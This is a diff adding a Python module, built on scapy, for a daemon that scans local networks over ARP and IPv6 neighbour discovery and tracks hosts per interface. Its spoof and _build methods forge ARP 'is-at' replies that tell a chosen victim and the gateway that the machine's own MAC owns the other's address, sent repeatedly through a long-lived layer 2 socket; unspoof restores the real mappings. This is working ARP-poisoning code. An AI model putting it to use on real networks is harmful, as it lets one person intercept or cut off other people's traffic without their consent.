@@ -0,0 +1,340 @@
+import time
+import queue
+import threading
+import ipaddress
+from concurrent.futures import ThreadPoolExecutor, TimeoutError
+from scapy.all import conf, Ether, ARP
+from utils import logger, get_interfaces, get_default_routes, get_gw, get_hostname, scan_hosts, new_host, name_cache
+
+
+class Sender(threading.Thread):
+    """
+    Sends frames on one interface from a queue through a single long-lived
+    layer 2 socket, so callers never wait on the wire and no socket is
+    opened per packet.
+    """
+
+    def __init__(self, iface):
+        super().__init__(name='sender-{}'.format(iface), daemon=True)
+        self.iface = iface
+        self.queue = queue.Queue()
+        self._socket = None
+
+    def submit(self, frames, count=1):
+        self.queue.put((frames, count))
+
+    def stop(self):
+        self.queue.put(None)
+
+    def run(self):
+        while True:
+            job = self.queue.get()
+            if job is None:
+                break
+            frames, count = job
+            try:
+                if self._socket is None:
+                    self._socket = conf.L2socket(iface=self.iface)
+                for _ in range(count):
+                    for frame in frames:
+                        self._socket.send(frame)
+            except Exception as e:
+                logger.error('Send error on {}: {}'.format(self.iface, str(e)))
+                self._close()
+        self._close()
+
+    def _close(self):
+        if self._socket is not None:
+            self._socket.close()
+            self._socket = None
+
+
+class ScanFlight:
+    """
+    One sweep of a network, shared by every request for it that arrives
+    while it runs or shortly after. Hosts are recorded in the order they are
+    found, so a late joiner replays them before following the rest.
+    """
+
+    def __init__(self, prefix):
+        self.prefix = prefix
+        self.found = list() # Hosts as yielded by the sweep, repeats included
+        self.hosts = dict() # MAC -> latest host
+        self.callers = 1
+        self.done = False
+        self.error = None
+        self.finished = None # time.monotonic() at the end of the sweep
+        self._cond = threading.Condition()
+
+    def add(self, host):
+        with self._cond:
+            self.found.append(host)
+            self.hosts[host['mac']] = host
+            self._cond.notify_all()
+
+    def finish(self, error=None):
+        with self._cond:
+            self.done = True
+            self.error = error
+            self.finished = time.monotonic()
+            self._cond.notify_all()
+
+    def fresh(self, max_age):
+        """
+        Whether a new request may share this sweep: it is running, or it
+        succeeded less than max_age seconds ago
+        """
+        return not self.done or (self.error is None and self.age() <= max_age)
+
+    def age(self):
+        """
+        Seconds since the sweep finished, 0 while it runs
+        """
+        return 0.0 if self.finished is None else time.monotonic() - self.finished
+
+    def follow(self):
+        """
+        Yield every host of the sweep, waiting for those not found yet
+        """
+        index = 0
+        while True:
+            with self._cond:
+                while index == len(self.found) and not self.done:
+                    self._cond.wait()
+                batch = self.found[index:]
+                index += len(batch)
+                done = self.done
+            yield from batch
+            if done:
+                break
+        if self.error is not None:
+            raise self.error
+
+    def result(self):
+        """
+        Wait for the sweep and return its hosts
+        """
+        with self._cond:
+            while not self.done:
+                self._cond.wait()
+        if self.error is not None:
+            raise self.error
+        return list(self.hosts.values())
+
+
+class InterfaceContext:
+    """
+    Everything the daemon knows about one IPv4 interface: its own addresses,
+    its gateway, the hosts from its last scan, pre-built ARP frames and the
+    sender that puts them on the wire. Scans also find the IPv6 neighbors
+    through neighbors, a NeighborWatch, if one is given.
+    """
+
+    def __init__(self, iface, info, gw_ip=None, gateway_timeout=2, neighbors=None):
+        self.iface = iface
+        self.my = dict()
+        self.gw = dict()
+        self.hosts = dict()
+        self.neighbors = neighbors
+        self.sender = Sender(iface)
+        self._frames = dict()
+        self._scan_lock = threading.Lock()
+        self._flights = dict() # Prefix -> latest ScanFlight
+        self._flights_lock = threading.Lock()
+        self.update(info, gw_ip, gateway_timeout)
+
+    def update(self, info, gw_ip=None, gateway_timeout=2):
+        """
+        Refresh the addresses of the interface and its gateway, dropping any
+        pre-built frames if one of them changed
+        """
+        my = {
+            'ip': info['ip'],
+            'mac': info['mac'],
+            'netmask': info['netmask'],
+            'hostname': self.my.get('hostname', '') if self.my.get('ip') == info['ip'] else get_hostname(info['ip'])
+        }
+        if gw_ip and gw_ip == self.gw.get('ip') and self.gw.get('mac'):
+            gw = self.gw
+        elif gw_ip:
+            gw = get_gw(self.iface, gw_ip, gateway_timeout)
+        else:
+            gw = dict()
+        if my['mac'] != self.my.get('mac') or gw.get('mac') != self.gw.get('mac'):
+            self._frames.clear()
+        self.my = my
+        self.gw = gw
+
+    def info(self):
+        return {'iface': self.iface, 'my': self.my, 'gw': self.gw}
+
+    def join_scan(self, prefix=24, max_age=0):
+        """
+        Return the sweep of this interface's network that a request should
+        use: the one running, one that finished at most max_age seconds
+        ago, or else a new one
+        """
+        with self._flights_lock:
+            flight = self._flights.get(prefix)
+            if flight is not None and flight.fresh(max_age):
+                flight.callers += 1
+                return flight
+            flight = ScanFlight(prefix)
+            self._flights[prefix] = flight
+        threading.Thread(target=self._sweep, args=(flight,), name='scan-{}'.format(self.iface), daemon=True).start()
+        return flight
+
+    def _sweep(self, flight):
+        # One sweep at a time, or the replies to one would be taken for the other's
+        with self._scan_lock:
+            try:
+                ipv6 = self.neighbors.discover(self.iface) if self.neighbors and self.neighbors.enabled else None
+                for host in scan_hosts(self.my['ip'], self.iface, flight.prefix):
+                    host['iface'] = self.iface
+                    flight.add(host)
+                if ipv6:
+                    self._add_ipv6(flight, ipv6)
+            except Exception as e:
+                logger.error('Scan of {} failed: {}'.format(self.iface, str(e)))
+                flight.finish(e)
+                return
+            self.hosts = dict(flight.hosts)
+            flight.finish()
+        logger.info('Scanned {}: {} hosts, {} requests'.format(self.iface, len(flight.hosts), flight.callers))
+
+    def _add_ipv6(self, flight, future):
+        """
+        Merge the IPv6 discovery run beside the ARP sweep into its hosts by
+        MAC; hosts with no IPv4 address are added under their first IPv6 one.
+        The discovery listens for as long as the sweep usually takes, so
+        waiting for it adds little to the scan, and never more than a second
+        beyond its listening time.
+        """
+        try:
+            found = future.result(timeout=self.neighbors.wait + 1)
+        except TimeoutError:
+            logger.warning('IPv6 discovery on {} did not finish in time'.format(self.iface))
+            return
+        except Exception as e:
+            logger.error('IPv6 discovery on {} failed: {}'.format(self.iface, str(e)))
+            return
+        for mac, addresses in found.items():
+            host = flight.hosts.get(mac)
+            if host is None:
+                # Names heard in mDNS, never asked from DNS: a /64 PTR lookup rarely answers
+                names = (name_cache.lookup(address, mac) for address in addresses)
+                host = new_host(addresses[0], mac, 'ndp', next((name for name in names if name), ''))
+                host['iface'] = self.iface
+            elif host.get('ipv6') == addresses:
+                continue
+            flight.add(dict(host, ipv6=addresses))
+
+    def scan(self, prefix=24, max_age=0):
+        """
+        Scan the network of this interface, replacing the known hosts
+        """
+        return self.join_scan(prefix, max_age).result()
+
+    def spoof(self, victim, count=5):
+        self.sender.submit(self._build(victim, spoof=True), count)
+
+    def unspoof(self, victim, count=10):
+        self.sender.submit(self._build(victim, spoof=False), count)
+
+    def _build(self, victim, spoof):
+        """
+        Return the two 'is-at' frames for victim, built once and then reused
+        """
+        if not self.gw.get('mac'):
+            raise ValueError('Interface {} has no reachable gateway'.format(self.iface))
+        key = (victim['ip'], victim['mac'], spoof)
+        frames = self._frames.get(key)
+        if frames is None:
+            # In spoof mode both sides learn our MAC, otherwise their real ones
+            gw_hwsrc = self.my['mac'] if spoof else self.gw['mac']
+            victim_hwsrc = self.my['mac'] if spoof else victim['mac']
+            to_victim = Ether(src=self.my['mac'], dst=victim['mac']) / ARP(
+                op=2, psrc=self.gw['ip'], hwsrc=gw_hwsrc, pdst=victim['ip'], hwdst=victim['mac'])
+            to_gw = Ether(src=self.my['mac'], dst=self.gw['mac']) / ARP(
+                op=2, psrc=victim['ip'], hwsrc=victim_hwsrc, pdst=self.gw['ip'], hwdst=self.gw['mac'])
+            frames = [bytes(to_victim), bytes(to_gw)]
+            self._frames[key] = frames
+        return frames
+
+
+class InterfaceRegistry:
+    """
+    Tracks an InterfaceContext for every IPv4-capable interface and runs
+    work on all of them concurrently
+    """
+
+    def __init__(self, gateway_timeout=2, neighbors=None):
+        self.contexts = dict()
+        self.gateway_timeout = gateway_timeout # Seconds to wait for a gateway's ARP reply
+        self.neighbors = neighbors # NeighborWatch finding the IPv6 hosts in scans
+        self._default = None
+        self._lock = threading.Lock()
+        self._executor = ThreadPoolExecutor(thread_name_prefix='iface')
+
+    def refresh(self):
+        """
+        Pick up new interfaces, update known ones and drop the vanished
+        """
+        interfaces = get_interfaces()
+        routes = get_default_routes()
+        gw_ips = dict()
+        for iface, gw_ip, metric in routes:
+            gw_ips.setdefault(iface, gw_ip)
+
+        def update(iface):
+            ctx = self.contexts.get(iface)
+            if ctx is None:
+                ctx = InterfaceContext(iface, interfaces[iface], gw_ips.get(iface), self.gateway_timeout,
+                                       self.neighbors)
+                ctx.sender.start()
+            else:
+                ctx.update(interfaces[iface], gw_ips.get(iface), self.gateway_timeout)
+            return ctx
+
+        with self._lock:
+            contexts = dict()
+            for ctx in self._executor.map(update, interfaces):
+                contexts[ctx.iface] = ctx
+            for iface, ctx in self.contexts.items():
+                if iface not in contexts:
+                    logger.info('Interface {} is gone'.format(iface))
+                    ctx.sender.stop()
+            self.contexts = contexts
+            self._default = next((iface for iface, gw_ip, metric in routes if iface in contexts), None)
+
+    def get(self, iface=None):
+        """
+        Return the context of iface, or of the default route interface
+        """
+        return self.contexts.get(iface or self._default)
+
+    def default(self):
+        return self.get()
+
+    def for_address(self, ip, prefix=24):
+        """
+        Return the context whose network of the given prefix holds ip
+        """
+        address = ipaddress.ip_address(ip)
+        for ctx in list(self.contexts.values()):
+            if address in ipaddress.ip_network('{}/{}'.format(ctx.my['ip'], prefix), strict=False):
+                return ctx
+        return None
+
+    def scan(self, ifaces=None, prefix=24, max_age=0):
+        """
+        Scan several interfaces at once, returning {iface: hosts}
+        """
+        contexts = [ctx for ctx in self.contexts.values() if ifaces is None or ctx.iface in ifaces]
+        results = self._executor.map(lambda ctx: (ctx.iface, ctx.scan(prefix, max_age)), contexts)
+        return dict(results)
+
+    def shutdown(self):
+        for ctx in self.contexts.values():
+            ctx.sender.stop()
+        self._executor.shutdown(wait=False)